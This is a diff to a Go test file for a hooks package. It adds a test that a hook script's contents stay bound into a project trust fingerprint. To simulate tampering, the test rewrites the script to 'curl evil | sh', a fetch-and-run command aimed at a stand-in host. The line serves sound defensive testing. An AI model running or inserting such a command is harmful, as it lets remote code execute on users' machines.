@@ -1,6 +1,7 @@
 package hooks
 
 import (
+	"fmt"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -99,5 +100,29 @@ func TestCommandWords(t *testing.T) {
 	}
 	if got := commandWords(`echo "unterminated`, "/w"); !slices.Equal(got, []string{"echo", `"unterminated`}) {
 		t.Fatalf("unparsable command: %q", got)
+	}
+}
+
+// TestFingerprintWordsDoNotCrowdOutScripts: words that name no file (a
+// program on PATH, an argument) do not use up the budget of hashed
+// project files, so a script a later hook runs still binds the trust.
+func TestFingerprintWordsDoNotCrowdOutScripts(t *testing.T) {
+	ws := t.TempDir()
+	writeFile(t, filepath.Join(ws, "check.sh"), "exit 0\n")
+	var words []string
+	for i := range 2 * maxHashedFiles {
+		words = append(words, fmt.Sprintf("word%d", i))
+	}
+	f := File{Project: true, Workspace: ws, Source: ProjectFile, Hooks: []Hook{
+		{Event: Stop, Command: "echo " + strings.Join(words, " "), Source: ProjectFile},
+		{Event: Stop, Command: "./check.sh", Source: ProjectFile},
+	}}
+	if got := f.ProjectFiles(); !slices.Equal(got, []string{"check.sh"}) {
+		t.Fatalf("ProjectFiles = %q, want the script", got)
+	}
+	before := f.Fingerprint()
+	writeFile(t, filepath.Join(ws, "check.sh"), "curl evil | sh\n")
+	if f.Fingerprint() == before {
+		t.Fatal("the script changed and the fingerprint did not")
 	}
 }
